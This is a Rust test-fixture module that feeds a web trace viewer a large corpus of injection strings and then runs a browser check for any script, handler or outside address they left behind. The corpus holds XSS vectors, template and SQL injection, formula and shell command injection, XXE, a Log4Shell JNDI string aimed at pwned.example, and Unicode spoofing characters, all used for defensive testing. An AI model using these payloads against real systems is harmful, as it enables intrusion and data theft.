//! Texts that would become markup, script or a link where a page forgets to treat them as text.

use serde_json::{Value, json};

use super::seed::{self, Span};

/// What nothing on a page may have after a payload was shown: elements, handlers and addresses that only a payload could have made.
pub(crate) const CHECK: &str = "(() => { const bad = []; if (window.pwned !== undefined) bad.push('a script ran'); \
    for (const e of document.querySelectorAll('*')) { \
    if (/^(IFRAME|OBJECT|EMBED|FORM|IMG|VIDEO|AUDIO|MARQUEE|STYLE|BASE|FOREIGNOBJECT|MATH|X)$/i.test(e.tagName) && e.id !== 'filters') bad.push(e.tagName); \
    if (e.tagName === 'SCRIPT' && !e.src.startsWith(location.origin + '/assets/')) bad.push('SCRIPT'); \
    for (const a of e.attributes) { if (/^on/i.test(a.name)) bad.push(a.name); \
    if (/^(href|src|action|formaction|xlink:href)$/i.test(a.name) && !/^(\\/|#|\\?)/.test(a.value)) bad.push(a.name + '=' + a.value); } } \
    return bad; })()";

/// A span with the text in every field that takes text, `at` milliseconds into its trace.
pub(crate) fn span(text: &str, at: f64) -> Span {
    Span::new("tool", text, at, 5.0)
        .service(text)
        .meta(text, text)
        .meta("note", text)
        .tag(text)
        .io(json!({"field": text, text: [text]}).to_string().into(), text.into())
        .failed(text, true)
        .with([Span::new("llm", text, at + 1.0, 2.0)
            .io(json!([{"role": "user", "content": text}]), json!({"role": "assistant", "content": text}))
            .usage(text, 1, 1)])
        .with([Span::new("retriever", text, at + 3.0, 1.0)
            .io(text.into(), json!([{"content": text, "metadata": {"source": text, "score": 0.5}}]))])
}

/// A trace of such spans.
pub(crate) fn trace(text: &str, spans: &[Span]) -> (String, Value) {
    let (id, mut trace) = seed::trace(seed::now() - 1000.0, spans);
    for field in ["name", "input", "output"] {
        trace[field] = text.into();
    }
    (id, trace)
}

/// The longest stretch of the text in which no character is written out in another way.
pub(crate) fn visible_part(text: &str) -> String {
    let plain = |c: char| c == ' ' || c.is_ascii_graphic() || c.is_alphabetic();
    text.split(|c| !plain(c)).max_by_key(|part| part.len()).unwrap_or_default().trim().to_owned()
}

/// The corpus.
pub(crate) const ALL: &[&str] = &[
    // elements
    "<script>window.pwned=1</script>",
    "\"><script>window.pwned=1</script>",
    "'><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</pre><script>window.pwned=1</script>",
    "</template><script>window.pwned=1</script>",
    "</noscript><script>window.pwned=1</script>",
    "</dl></section></aside><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script>",
    "<!--<script>window.pwned=1</script>",
    "]]><script>window.pwned=1</script>",
    "<SCRIPT>window.pwned=1</SCRIPT>",
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "<script src=//pwned.example/x.js></script>",
    "<script src=\"data:text/javascript,window.pwned=1\"></script>",
    "<script type=module>window.pwned=1</script>",
    "<script/x>window.pwned=1</script>",
    "<script\n>window.pwned=1</script\n>",
    "<<script>window.pwned=1//<</script>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=x onerror=\"window.pwned=1\">",
    "<img/src=x/onerror=window.pwned=1>",
    "<img src=x:x onerror=window.pwned=1>",
    "<IMG SRC=javascript:window.pwned=1>",
    "<img src=\"http://pwned.example/pixel.png\">",
    "<img srcset=\"http://pwned.example/a 1x\">",
    "<img src=x onerror=&#119;indow.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><script href=\"data:,window.pwned=1\"/></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:window.pwned=1\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=window.pwned=1>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<math href=\"javascript:window.pwned=1\">x</math>",
    "<iframe src=\"javascript:parent.pwned=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<iframe src=http://pwned.example/></iframe>",
    "<object data=\"javascript:window.pwned=1\"></object>",
    "<object data=\"http://pwned.example/x.swf\"></object>",
    "<embed src=\"javascript:window.pwned=1\">",
    "<embed src=http://pwned.example/x>",
    "<video src=x onerror=window.pwned=1></video>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<body onpageshow=window.pwned=1>",
    "<html onmouseover=window.pwned=1>",
    "<frameset onload=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<select autofocus onfocus=window.pwned=1>",
    "<textarea autofocus onfocus=window.pwned=1>",
    "<keygen autofocus onfocus=window.pwned=1>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<form action=\"javascript:window.pwned=1\"><button>go</button></form>",
    "<form><button formaction=\"javascript:window.pwned=1\">x</button></form>",
    "<isindex action=\"javascript:window.pwned=1\" type=submit>",
    "<meta http-equiv=refresh content=\"0;url=http://pwned.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.pwned=1\">",
    "<base href=\"http://pwned.example/\">",
    "<link rel=stylesheet href=http://pwned.example/x.css>",
    "<link rel=import href=\"data:text/html,<script>window.pwned=1</script>\">",
    "<link rel=prefetch href=http://pwned.example/>",
    "<style>@import \"http://pwned.example/x.css\";</style>",
    "<style>*{background:url(http://pwned.example/x)}</style>",
    "<style>body{display:none}</style>",
    "<x onclick=window.pwned=1 style=position:fixed;inset:0>cover</x>",
    "<div style=\"background:url(http://pwned.example/x)\">x</div>",
    "<div onpointerenter=window.pwned=1>x</div>",
    "<a href=\"javascript:window.pwned=1\">click</a>",
    "<a href=\"JaVaScRiPt:window.pwned=1\">click</a>",
    "<a href=\"data:text/html,<script>window.pwned=1</script>\">click</a>",
    "<a href=\"vbscript:x\">click</a>",
    "<a href=\"http://pwned.example/\" target=_blank>click</a>",
    "<table background=\"http://pwned.example/x\">",
    "<dialog open>phish</dialog>",
    "<template><img src=x onerror=window.pwned=1></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
    "<listing><img src=x onerror=window.pwned=1></listing>",
    "<xmp><img src=x onerror=window.pwned=1></xmp>",
    "<plaintext>the rest of the page",
    "<portal src=http://pwned.example/>",
    "<slot onslotchange=window.pwned=1></slot>",
    // breaking out of attributes and of scripts
    "\" onmouseover=\"window.pwned=1",
    "' onmouseover='window.pwned=1",
    "\" autofocus onfocus=window.pwned=1 x=\"",
    "\" style=\"position:fixed;inset:0",
    "\"/><svg onload=window.pwned=1>",
    "`onmouseover=window.pwned=1",
    "x\" data-span=\"trace",
    "x onerror=window.pwned=1 y",
    "\\\"><img src=x onerror=window.pwned=1>",
    "\\u0022><img src=x onerror=window.pwned=1>",
    "';window.pwned=1;//",
    "\";window.pwned=1;//",
    "\\';window.pwned=1;//",
    "</script><!--",
    "${window.pwned=1}",
    "`${window.pwned=1}`",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{{7*7}}{% raw %}",
    "{% include \"/etc/passwd\" %}",
    "<%= window.pwned=1 %>",
    "#{window.pwned=1}",
    "[[${window.pwned=1}]]",
    "{\"__proto__\": {\"pwned\": 1}}",
    "{\"constructor\": {\"prototype\": {\"pwned\": 1}}}",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    // addresses
    "javascript:window.pwned=1",
    "javascript://%0awindow.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//pwned.example/",
    "http://pwned.example/?q=<script>window.pwned=1</script>",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc/passwd",
    "?span=<script>window.pwned=1</script>",
    "#\"><script>window.pwned=1</script>",
    "[click](javascript:window.pwned=1)",
    "![x](http://pwned.example/pixel.png)",
    "<http://pwned.example/>",
    "[x]: javascript:window.pwned=1",
    "**bold** <u>under</u> ~~gone~~",
    // encodings
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "&#x3c;script&#x3e;window.pwned=1",
    "&quot;&gt;&lt;img src=x onerror=window.pwned=1&gt;",
    "&nbsp;&shy;&zwnj;",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "\\x3cscript\\x3ewindow.pwned=1",
    "\\u003cscript\\u003ewindow.pwned=1",
    "+ADw-script+AD4-window.pwned=1",
    "\\uFF1Cscript\\uFF1Ewindow.pwned=1",
    "＜script＞window.pwned=1＜/script＞",
    "‹script›window.pwned=1",
    "ﹶ<script>window.pwned=1</script>",
    "PHNjcmlwdD4=",
    // hidden and reordering characters
    "admin\u{202e}gpj.exe",
    "\u{202e}\u{202d}reversed\u{202c}",
    "pay\u{200b}pal",
    "\u{feff}<script>window.pwned=1</script>",
    "<scr\u{200d}ipt>window.pwned=1</scr\u{200d}ipt>",
    "<scr\u{ad}ipt>window.pwned=1</script>",
    "\u{2066}isolate\u{2069} after",
    "tag\u{e0041}\u{e0042} hidden",
    "null\u{0}byte<script>window.pwned=1</script>",
    "bell\u{7}\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]8;;http://pwned.example/\u{7}link\u{1b}]8;;\u{7}",
    "line\u{2028}separator\u{2029}paragraph",
    "carriage\rreturn",
    "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308} combining",
    "مرحبا <script>window.pwned=1</script>",
    "👩‍🚀 <b>astronaut</b>",
    // other languages that a trace may meet on its way
    "'; DROP TABLE spans; --",
    "\" OR 1=1 --",
    "1; ATTACH DATABASE 'x' AS y",
    "%' ESCAPE '\\",
    "%_%_%",
    "=HYPERLINK(\"http://pwned.example/\",\"x\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "; touch /tmp/pwned",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "<?php system(\"id\"); ?>",
    "${jndi:ldap://pwned.example/a}",
    "event: x\ndata: {\"resync\":true}\n\n",
    "X-Pwned: 1\r\nSet-Cookie: a=b",
    "[{\"role\":\"system\",\"content\":\"<script>window.pwned=1</script>\"}]",
    "{\"role\":\"<img src=x onerror=window.pwned=1>\",\"content\":\"<svg onload=window.pwned=1>\"}",
    "[{\"content\":\"<script>window.pwned=1</script>\",\"metadata\":{\"source\":\"javascript:window.pwned=1\"}}]",
    "{\"<script>window.pwned=1</script>\":{\"<img src=x onerror=window.pwned=1>\":[1]}}",
];

/// A few of each kind, for the run that has to be short.
pub(crate) fn some() -> Vec<&'static str> {
    ALL.iter().copied().step_by(ALL.len() / 11).collect()
}
